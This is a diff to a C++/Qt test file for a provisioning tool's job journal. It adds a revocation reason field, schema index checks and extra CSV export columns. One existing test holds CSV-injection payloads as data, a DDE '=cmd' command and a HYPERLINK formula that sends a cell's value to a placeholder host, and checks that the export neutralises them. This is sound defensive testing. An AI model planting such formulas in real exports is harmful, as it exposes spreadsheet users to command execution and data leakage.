@@ -52,6 +52,7 @@ private Q_SLOTS:
     void unknownNamesAreReported();
     void csvQuoting();
     void csvNeutralisesFormulas();
+    void csvShowsKindReasonAndRevoke();
     void historyCommand();
     void revocationIsJournaled();
     void revocationGoesAheadWithoutTheJournal();
@@ -185,7 +186,7 @@ void TestJobJournal::schemaAndWalOnAFile()
                                        QStringLiteral("profile"), QStringLiteral("slot"), QStringLiteral("device_id"),
                                        QStringLiteral("cert_id"), QStringLiteral("arn"), QStringLiteral("outcome"),
                                        QStringLiteral("error"), QStringLiteral("device_serial"), QStringLiteral("topics"),
-                                       QStringLiteral("run_id"), QStringLiteral("kind")}));
+                                       QStringLiteral("run_id"), QStringLiteral("kind"), QStringLiteral("reason")}));
         columns.clear();
         QVERIFY(query.exec(QStringLiteral("PRAGMA table_info(steps)")));
         while (query.next())
@@ -313,10 +314,12 @@ void TestJobJournal::updatesAVersion2Journal()
     JobJournal::Job revoke;
     revoke.kind = JobJournal::Kind::Revoke;
     revoke.certificateId = QStringLiteral("c2c2");
+    revoke.reason = QStringLiteral("returned by the customer");
     const qint64 id = journal.beginJob(revoke);
     QVERIFY(id > 0);
     QVERIFY(journal.finishJob(id, Outcome::Done, {}));
     QCOMPARE(journal.job(id)->kind, JobJournal::Kind::Revoke);
+    QCOMPARE(journal.job(id)->reason, QStringLiteral("returned by the customer"));
     QVERIFY(journal.job(done.id)->certificateRevokedAt.isValid());
     // Opened again, nothing is updated twice.
     JobJournal again(file);
@@ -330,6 +333,11 @@ void TestJobJournal::updatesAVersion2Journal()
         QVERIFY(query.exec(QStringLiteral("SELECT count(*), max(version) FROM schema_version")) && query.next());
         QCOMPARE(query.value(0).toInt(), 1);
         QCOMPARE(query.value(1).toInt(), JobJournal::schemaVersion);
+        // Version 4's indexes for the history page's searches.
+        QVERIFY(query.exec(QStringLiteral("SELECT count(*) FROM sqlite_master WHERE type = 'index' AND name IN "
+                                          "('jobs_cert_id_nocase', 'jobs_operator', 'jobs_station')"))
+                && query.next());
+        QCOMPARE(query.value(0).toInt(), 3);
     }
     QSqlDatabase::removeDatabase(QStringLiteral("version-check"));
 }
@@ -756,9 +764,9 @@ void TestJobJournal::csvQuoting()
     job.runId = QStringLiteral("not exported");
     const QString csv = JobJournal::toCsv({job});
     QCOMPARE(csv, QStringLiteral("id,started_at,finished_at,operator,station,port,profile,slot,device_id,cert_id,arn,"
-                                 "outcome,error,device_serial,topics\r\n"
+                                 "outcome,error,device_serial,topics,kind,reason,certificate_revoked_at\r\n"
                                  "7,2025-03-01T12:00:00.000Z,,\"o'brien, pat\",\"bench \"\"one\"\"\",,,3,plain,,,failed,"
-                                 "\"line one\nline two\",SN-1,\"a/b\nc,d\"\r\n"));
+                                 "\"line one\nline two\",SN-1,\"a/b\nc,d\",provision,,\r\n"));
     const QString file = m_dir->filePath(QStringLiteral("out.csv"));
     QVERIFY(m_journal->exportCsv({job}, file));
     QFile written(file);
@@ -781,7 +789,23 @@ void TestJobJournal::csvNeutralisesFormulas()
     const QString row = csv.section(QLatin1String("\r\n"), 1, 1);
     QCOMPARE(row, QStringLiteral(",,,'@SUM(1+1),'+bench,'-1+2,,0,"
                                  "\"'=HYPERLINK(\"\"http://example.invalid/\"\"&A1,\"\"open\"\")\",,,,"
-                                 "\\x1b]0;title\\x07,,'=cmd|' /C calc'!A0").prepend(QStringLiteral("8")));
+                                 "\\x1b]0;title\\x07,,'=cmd|' /C calc'!A0,provision,,").prepend(QStringLiteral("8")));
+}
+
+// A revoke's row says it is one, and why; a certificate revoked later says when. A reason is typed by
+// a person and stays text in a spreadsheet.
+void TestJobJournal::csvShowsKindReasonAndRevoke()
+{
+    JobJournal::Job revoke;
+    revoke.id = 9;
+    revoke.kind = JobJournal::Kind::Revoke;
+    revoke.reason = QStringLiteral("=1+1");
+    JobJournal::Job provisioned;
+    provisioned.id = 5;
+    provisioned.certificateRevokedAt = QDateTime(QDate(2026, 1, 2), QTime(3, 4, 5), QTimeZone::UTC);
+    const QStringList lines = JobJournal::toCsv({revoke, provisioned}).split(QLatin1String("\r\n"));
+    QVERIFY2(lines.at(1).endsWith(QLatin1String(",revoke,'=1+1,")), qPrintable(lines.at(1)));
+    QVERIFY2(lines.at(2).endsWith(QLatin1String(",provision,,2026-01-02T03:04:05.000Z")), qPrintable(lines.at(2)));
 }
 
 // history as a process, on the journal provision wrote as a process.
@@ -879,7 +903,7 @@ void TestJobJournal::revocationIsJournaled()
     QSignalSpy added(m_journal.get(), &JobJournal::jobAdded);
     CertificateRevocation revocation(&m_foundry.client(), m_journal.get(),
                                      {certificateId, QStringLiteral("dev-revoked"), QStringLiteral("alice"),
-                                      QStringLiteral("bench-1")});
+                                      QStringLiteral("bench-1"), QStringLiteral("support ticket 42")});
     QSignalSpy finished(&revocation, &CertificateRevocation::finished);
     revocation.start();
     QCOMPARE(added.size(), 1);
@@ -901,6 +925,7 @@ void TestJobJournal::revocationIsJournaled()
     QCOMPARE(row->outcome, Outcome::Done);
     QCOMPARE(row->certificateId, certificateId);
     QCOMPARE(row->deviceId, QStringLiteral("dev-revoked"));
+    QCOMPARE(row->reason, QStringLiteral("support ticket 42"));
     QCOMPARE(row->operatorName, QStringLiteral("alice"));
     QCOMPARE(row->station, QStringLiteral("bench-1"));
     QVERIFY(row->finishedAt.isValid());
@@ -909,7 +934,7 @@ void TestJobJournal::revocationIsJournaled()
     // Again: Foundry no longer knows it and refuses.
     CertificateRevocation again(&m_foundry.client(), m_journal.get(),
                                 {certificateId, QStringLiteral("dev-revoked"), QStringLiteral("alice"),
-                                 QStringLiteral("bench-1")});
+                                 QStringLiteral("bench-1"), QString()});
     QSignalSpy againFinished(&again, &CertificateRevocation::finished);
     again.start();
     QVERIFY(againFinished.wait(20000));
@@ -944,7 +969,7 @@ void TestJobJournal::revocationGoesAheadWithoutTheJournal()
 
     CertificateRevocation revocation(&m_foundry.client(), m_journal.get(),
                                      {certificateId, QStringLiteral("dev-unjournaled"), QStringLiteral("alice"),
-                                      QStringLiteral("bench-1")});
+                                      QStringLiteral("bench-1"), QString()});
     QSignalSpy finished(&revocation, &CertificateRevocation::finished);
     revocation.start();
     QVERIFY(finished.wait(20000));
